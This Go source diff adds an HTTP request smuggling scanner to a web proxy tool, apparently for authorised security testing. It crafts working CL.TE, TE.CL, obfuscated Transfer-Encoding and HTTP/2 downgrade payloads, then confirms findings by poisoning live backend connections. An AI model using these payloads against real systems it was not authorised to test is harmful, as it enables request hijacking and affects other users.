@@ -0,0 +1,473 @@
+package web
+
+import (
+	"context"
+	"crypto/tls"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"sort"
+	"strings"
+	"time"
+
+	uuid "github.com/satori/go.uuid"
+	log "github.com/sirupsen/logrus"
+	"github.com/vela-ssoc/vela-mitm/proxy"
+)
+
+const (
+	SmuggleCLTE = "cl.te"
+	SmuggleTECL = "te.cl"
+	SmuggleTETE = "te.te"
+	SmuggleH2CL = "h2.cl"
+	SmuggleH2TE = "h2.te"
+)
+
+const (
+	smuggleDefaultTimeout = 5 * time.Second
+	smuggleMaxTimeout     = 30 * time.Second
+	smuggleConfirmTries   = 3
+)
+
+var smuggleNoH2E = fmt.Errorf("h2 not negotiated")
+
+// transfer-encoding 的写法, 前端和后端只有一方识别时产生走私; 第一个为标准写法
+var smuggleTEVariants = []struct {
+	Name   string
+	Header string
+}{
+	{"plain", "Transfer-Encoding: chunked\r\n"},
+	{"space-before-colon", "Transfer-Encoding : chunked\r\n"},
+	{"tab", "Transfer-Encoding:\tchunked\r\n"},
+	{"vertical-tab", "Transfer-Encoding:\x0bchunked\r\n"},
+	{"lower-case", "transfer-encoding: chunked\r\n"},
+	{"leading-space", " Transfer-Encoding: chunked\r\n"},
+	{"line-folding", "Transfer-Encoding:\r\n chunked\r\n"},
+	{"lf-only", "Transfer-Encoding: chunked\n"},
+	{"xchunked", "Transfer-Encoding: xchunked\r\n"},
+	{"quoted", "Transfer-Encoding: \"chunked\"\r\n"},
+	{"identity-list", "Transfer-Encoding: identity, chunked\r\n"},
+	{"duplicate", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n"},
+}
+
+// FlowID 不为空时使用 history 中的请求 (包括 query 和 body), 否则使用 Request; 请求的 url 决定目标, header (cookie 等) 会带在探测请求中
+// Techniques 默认全部, te.te 为 cl.te 和 te.cl 使用 transfer-encoding 的各种变形写法
+type SmuggleScan struct {
+	FlowID     string                 `json:"flow_id,omitempty"`
+	Request    *proxy.RequestEditData `json:"request,omitempty"`
+	Addr       string                 `json:"addr,omitempty"` // 实际连接的 host:port, 为空时使用 url 的
+	SNI        string                 `json:"sni,omitempty"`
+	Techniques []string               `json:"techniques,omitempty"`
+	Timeout    int                    `json:"timeout,omitempty"` // 单个探测的超时, 毫秒, 默认 5000, 最大 30000
+}
+
+// 探测请求的响应比正常请求慢 timeout/2 以上 (两次) 时记录; Confirmed 为攻击请求之后正常请求收到了走私请求的响应
+type SmuggleFinding struct {
+	Technique string `json:"technique"`
+	Variant   string `json:"variant,omitempty"` // transfer-encoding 的写法
+	Delay     int64  `json:"delay"`             // 探测请求的耗时, 毫秒
+	Confirmed bool   `json:"confirmed"`
+	Status    int    `json:"status,omitempty"` // 确认时正常请求收到的状态码
+	Probe     string `json:"probe"`
+	Attack    string `json:"attack,omitempty"`
+}
+
+type SmuggleReport struct {
+	Target   string           `json:"target"`
+	TLS      bool             `json:"tls"`
+	H2       bool             `json:"h2"`       // 支持 http/2
+	Baseline int64            `json:"baseline"` // 正常请求的耗时, 毫秒
+	Status   int              `json:"status"`   // 正常请求的状态码
+	Probes   int              `json:"probes"`   // 发送的探测请求数
+	Findings []SmuggleFinding `json:"findings"`
+	Notes    []string         `json:"notes,omitempty"`
+}
+
+func (r *SmuggleReport) clone() *SmuggleReport {
+	c := *r
+	c.Findings = append([]SmuggleFinding(nil), r.Findings...)
+	c.Notes = append([]string(nil), r.Notes...)
+	return &c
+}
+
+type smuggleUnit struct {
+	Technique string
+	Variant   int
+}
+
+type smuggler struct {
+	web     *WebAddon
+	addr    string
+	tls     bool
+	sni     string
+	u       *url.URL
+	method  string
+	headers []h2Header // 原请求的 header, 名称小写, 不包括长度和连接相关的
+	victim  string     // 原样的正常请求
+	marker  string     // 走私请求的路径, 不存在的路径
+	timeout time.Duration
+	units   []smuggleUnit
+
+	baseline   time.Duration
+	status     int
+	h2Baseline time.Duration
+	h2Status   int
+	h2Skip     bool
+}
+
+func (web *WebAddon) newSmuggler(db *FlowDB, scan *SmuggleScan) (*smuggler, error) {
+	fr := scan.Request
+	if scan.FlowID != "" {
+		flow, err := db.FindFlowId(scan.FlowID)
+		if err != nil {
+			return nil, fmt.Errorf("flow %s not found", scan.FlowID)
+		}
+		if err = db.LoadBody(flow); err != nil {
+			return nil, err
+		}
+		fr = flowRequest(flow)
+	}
+	if fr == nil {
+		return nil, fmt.Errorf("flow_id or request required")
+	}
+	if err := web.config.Scope.Check(fr.RawURL); err != nil {
+		return nil, err
+	}
+
+	// 正常请求带原 body, 长度按 body 重新计算
+	header := fr.Header.Clone()
+	header.Del("Content-Length")
+	header.Del("Transfer-Encoding")
+	raw, err := rawFromRequest(&proxy.RequestEditData{Method: fr.Method, RawURL: fr.RawURL, Header: header, Body: fr.Body})
+	if err != nil {
+		return nil, err
+	}
+	u, _ := url.Parse(fr.RawURL)
+
+	s := &smuggler{
+		web:     web,
+		addr:    raw.Addr,
+		tls:     raw.TLS,
+		sni:     scan.SNI,
+		u:       u,
+		method:  fr.Method,
+		victim:  raw.Requests[0],
+		marker:  "/smuggle-" + uuid.NewV4().String()[:8],
+		timeout: smuggleDefaultTimeout,
+	}
+	if scan.Addr != "" {
+		if _, _, err = net.SplitHostPort(scan.Addr); err != nil {
+			return nil, fmt.Errorf("invalid addr %q, want host:port", scan.Addr)
+		}
+		s.addr = scan.Addr
+	}
+	if scan.Timeout > 0 {
+		s.timeout = time.Duration(scan.Timeout) * time.Millisecond
+	}
+	if s.timeout > smuggleMaxTimeout {
+		s.timeout = smuggleMaxTimeout
+	}
+
+	keys := make([]string, 0, len(fr.Header))
+	for key := range fr.Header {
+		keys = append(keys, key)
+	}
+	sort.Strings(keys)
+	for _, key := range keys {
+		switch name := strings.ToLower(key); name {
+		case "host", "content-length", "transfer-encoding", "content-type", "connection", "keep-alive", "upgrade", "te":
+		default:
+			if strings.HasPrefix(http.CanonicalHeaderKey(key), proxy.ControlHeaderPrefix) {
+				continue
+			}
+			for _, v := range fr.Header[key] {
+				s.headers = append(s.headers, h2Header{Name: name, Value: v})
+			}
+		}
+	}
+
+	techniques := scan.Techniques
+	if len(techniques) == 0 {
+		techniques = []string{SmuggleCLTE, SmuggleTECL, SmuggleTETE, SmuggleH2CL, SmuggleH2TE}
+	}
+	for _, t := range techniques {
+		switch t {
+		case SmuggleCLTE, SmuggleTECL, SmuggleH2CL, SmuggleH2TE:
+			s.units = append(s.units, smuggleUnit{Technique: t})
+		case SmuggleTETE:
+			for i := 1; i < len(smuggleTEVariants); i++ {
+				s.units = append(s.units, smuggleUnit{Technique: SmuggleCLTE, Variant: i}, smuggleUnit{Technique: SmuggleTECL, Variant: i})
+			}
+		default:
+			return nil, fmt.Errorf("unknown technique %s", t)
+		}
+	}
+
+	// 先 cl.te 后 te.cl: te.cl 的探测会让 cl.te 的目标后端连接中残留数据
+	sort.SliceStable(s.units, func(i, k int) bool {
+		return s.units[i].Technique == SmuggleCLTE && s.units[k].Technique != SmuggleCLTE
+	})
+	return s, nil
+}
+
+// 校验之后作为后台任务执行, 报告通过 JobDetail.Report 读取, 可以暂停和恢复
+func (web *WebAddon) startSmuggle(c *concurrentConn, scan *SmuggleScan) (JobInfo, error) {
+	s, err := web.newSmuggler(c.db, scan)
+	if err != nil {
+		return JobInfo{}, err
+	}
+
+	return web.submitJob(c, jobSpec{
+		Kind:     JobSmuggle,
+		Total:    len(s.units),
+		Pausable: true,
+		Run: func(ctx context.Context, j *backgroundJob, _ *FlowDB) error {
+			return s.run(ctx, j)
+		},
+	}), nil
+}
+
+func (s *smuggler) run(ctx context.Context, j *backgroundJob) error {
+	report := &SmuggleReport{Target: s.addr, TLS: s.tls, Findings: make([]SmuggleFinding, 0)}
+
+	status, elapsed, err := s.send(ctx, s.victim)
+	if err != nil || status == 0 {
+		return fmt.Errorf("baseline request fail %v", err)
+	}
+	if elapsed >= s.timeout/2 {
+		return fmt.Errorf("baseline request took %s, timeout %s too short", elapsed, s.timeout)
+	}
+	s.baseline, s.status = elapsed, status
+	report.Baseline, report.Status = elapsed.Milliseconds(), status
+	j.setOutput(report.clone())
+
+	found := make(map[int]bool) // cl.te 成立的变形不再测试 te.cl
+	for i, unit := range s.units {
+		if j.wait(ctx) != nil {
+			break
+		}
+
+		var finding *SmuggleFinding
+		switch unit.Technique {
+		case SmuggleCLTE, SmuggleTECL:
+			if unit.Technique == SmuggleCLTE || !found[unit.Variant] {
+				finding = s.probeH1(ctx, unit, report)
+			}
+		default:
+			finding = s.probeH2(ctx, unit, report)
+		}
+
+		if finding != nil {
+			if finding.Technique == SmuggleCLTE {
+				found[unit.Variant] = true
+			}
+			report.Findings = append(report.Findings, *finding)
+			log.Warnf("smuggle %s %s %s confirmed %v", s.addr, finding.Technique, finding.Variant, finding.Confirmed)
+		}
+
+		j.setOutput(report.clone())
+		j.progress(i+1, len(s.units))
+	}
+	return nil
+}
+
+// 探测请求比正常请求慢 timeout/2 以上
+func (s *smuggler) delayed(elapsed, baseline time.Duration) bool {
+	return elapsed >= baseline+s.timeout/2
+}
+
+func (s *smuggler) send(ctx context.Context, req string) (int, time.Duration, error) {
+	res, err := s.web.sendRaw(ctx, &RawRequest{Addr: s.addr, TLS: s.tls, SNI: s.sni, Requests: []string{req}}, s.timeout)
+	if err != nil {
+		return 0, 0, err
+	}
+
+	elapsed := time.Duration(res.Time) * time.Millisecond
+	if len(res.Responses) == 0 {
+		if res.Error != "" {
+			return 0, elapsed, fmt.Errorf("%s", res.Error)
+		}
+		return 0, elapsed, nil
+	}
+	return res.Responses[0].Status, elapsed, nil
+}
+
+func (s *smuggler) h1(te string, length int, body string) string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "POST %s HTTP/1.1\r\nHost: %s\r\n", s.u.RequestURI(), s.u.Host)
+	for _, h := range s.headers {
+		fmt.Fprintf(&b, "%s: %s\r\n", http.CanonicalHeaderKey(h.Name), h.Value)
+	}
+	b.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
+	fmt.Fprintf(&b, "Content-Length: %d\r\n", length)
+	b.WriteString(te)
+	b.WriteString("\r\n")
+	b.WriteString(body)
+	return b.String()
+}
+
+// cl.te: 前端按 Content-Length 只转发 "1\r\nZ", 后端按 chunked 等待下一个块
+// te.cl: 前端按 chunked 只转发 "0\r\n\r\n", 后端按 Content-Length 等待第 6 个字节
+func (s *smuggler) h1Probe(unit smuggleUnit) (probe, attack string) {
+	te := smuggleTEVariants[unit.Variant].Header
+
+	if unit.Technique == SmuggleCLTE {
+		body := "0\r\n\r\nGET " + s.marker + " HTTP/1.1\r\nX-Ignore: X"
+		return s.h1(te, 4, "1\r\nZ\r\nQ"), s.h1(te, len(body), body)
+	}
+
+	// 走私请求的 Content-Length 大于剩余的 body, 会吃掉下一个请求的开头
+	smuggled := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1", s.marker, s.u.Host)
+	size := fmt.Sprintf("%x", len(smuggled))
+	body := size + "\r\n" + smuggled + "\r\n0\r\n\r\n"
+	return s.h1(te, 6, "0\r\n\r\nX"), s.h1(te, len(size)+2, body)
+}
+
+func (s *smuggler) probeH1(ctx context.Context, unit smuggleUnit, report *SmuggleReport) *SmuggleFinding {
+	probe, attack := s.h1Probe(unit)
+
+	var elapsed time.Duration
+	for i := 0; i < 2; i++ {
+		report.Probes++
+		_, elapsed, _ = s.send(ctx, probe)
+		if ctx.Err() != nil || !s.delayed(elapsed, s.baseline) {
+			return nil
+		}
+	}
+
+	// 正常请求也变慢时是目标本身的问题
+	if _, normal, err := s.send(ctx, s.victim); err != nil || s.delayed(normal, s.baseline) {
+		return nil
+	}
+
+	finding := &SmuggleFinding{
+		Technique: unit.Technique,
+		Variant:   smuggleTEVariants[unit.Variant].Name,
+		Delay:     elapsed.Milliseconds(),
+		Probe:     probe,
+		Attack:    attack,
+	}
+	for i := 0; i < smuggleConfirmTries && ctx.Err() == nil; i++ {
+		report.Probes++
+		s.send(ctx, attack)
+		if status, _, err := s.send(ctx, s.victim); err == nil && status != 0 && status != s.status {
+			finding.Confirmed, finding.Status = true, status
+			break
+		}
+	}
+	return finding
+}
+
+func (s *smuggler) h2Headers(method, path string, extra ...h2Header) []h2Header {
+	headers := []h2Header{
+		{Name: ":method", Value: method},
+		{Name: ":path", Value: path},
+		{Name: ":scheme", Value: "https"},
+		{Name: ":authority", Value: s.u.Host},
+	}
+	headers = append(headers, s.headers...)
+	return append(headers, extra...)
+}
+
+func (s *smuggler) sendH2(ctx context.Context, headers []h2Header, data string) (*h2Response, time.Duration, error) {
+	ctx, cancel := context.WithTimeout(ctx, s.timeout)
+	defer cancel()
+
+	start := time.Now()
+	conn, err := s.web.rawDialer().DialRaw(ctx, s.addr, true, s.sni, "h2")
+	if err != nil {
+		return nil, 0, err
+	}
+	defer conn.Close()
+
+	if tc, ok := conn.(*tls.Conn); !ok || tc.ConnectionState().NegotiatedProtocol != "h2" {
+		return nil, 0, smuggleNoH2E
+	}
+
+	res, err := h2Exchange(ctx, conn, headers, []byte(data))
+	return res, time.Since(start), err
+}
+
+// h2 降级为 http/1.1 时, 前端直接使用 content-length header 或保留 transfer-encoding
+// h2.cl: content-length 大于实际的 body, 后端等待剩余的 body
+// h2.te: chunked body 没有结束块, 后端等待下一个块
+func (s *smuggler) probeH2(ctx context.Context, unit smuggleUnit, report *SmuggleReport) *SmuggleFinding {
+	if !s.tls {
+		return nil
+	}
+
+	victim := s.h2Headers(s.method, s.u.RequestURI())
+	if s.h2Skip {
+		return nil
+	}
+	if s.h2Status == 0 {
+		res, elapsed, err := s.sendH2(ctx, victim, "")
+		if err == nil && res.Status == 0 {
+			err = fmt.Errorf("baseline %s", res)
+		}
+		if err != nil {
+			s.h2Skip = true
+			report.Notes = append(report.Notes, fmt.Sprintf("h2 techniques skipped: %v", err))
+			return nil
+		}
+		report.H2 = true
+		s.h2Baseline, s.h2Status = elapsed, res.Status
+	}
+
+	var probe, attack []h2Header
+	var probeData, attackData string
+	smuggled := "GET " + s.marker + " HTTP/1.1\r\nX-Ignore: X"
+	if unit.Technique == SmuggleH2CL {
+		probeData = "x=1"
+		probe = s.h2Headers("POST", s.u.RequestURI(), h2Header{Name: "content-length", Value: "10"})
+		attackData = smuggled
+		attack = s.h2Headers("POST", s.u.RequestURI(), h2Header{Name: "content-length", Value: "0"})
+	} else {
+		te := h2Header{Name: "transfer-encoding", Value: "chunked"}
+		probeData = "1\r\nZ\r\n"
+		probe = s.h2Headers("POST", s.u.RequestURI(), te)
+		attackData = "0\r\n\r\n" + smuggled
+		attack = s.h2Headers("POST", s.u.RequestURI(), te)
+	}
+
+	var elapsed time.Duration
+	for i := 0; i < 2; i++ {
+		report.Probes++
+		_, elapsed, _ = s.sendH2(ctx, probe, probeData)
+		if ctx.Err() != nil || !s.delayed(elapsed, s.h2Baseline) {
+			return nil
+		}
+	}
+	if _, normal, err := s.sendH2(ctx, victim, ""); err != nil || s.delayed(normal, s.h2Baseline) {
+		return nil
+	}
+
+	finding := &SmuggleFinding{
+		Technique: unit.Technique,
+		Delay:     elapsed.Milliseconds(),
+		Probe:     h2Describe(probe, probeData),
+		Attack:    h2Describe(attack, attackData),
+	}
+	for i := 0; i < smuggleConfirmTries && ctx.Err() == nil; i++ {
+		report.Probes++
+		s.sendH2(ctx, attack, attackData)
+		res, _, err := s.sendH2(ctx, victim, "")
+		if err == nil && res.Status != 0 && res.Status != s.h2Status {
+			finding.Confirmed, finding.Status = true, res.Status
+			break
+		}
+	}
+	return finding
+}
+
+// 以 http/1.1 的形式显示 h2 请求
+func h2Describe(headers []h2Header, data string) string {
+	var b strings.Builder
+	for _, h := range headers {
+		fmt.Fprintf(&b, "%s: %s\r\n", h.Name, h.Value)
+	}
+	b.WriteString("\r\n")
+	b.WriteString(data)
+	return b.String()
+}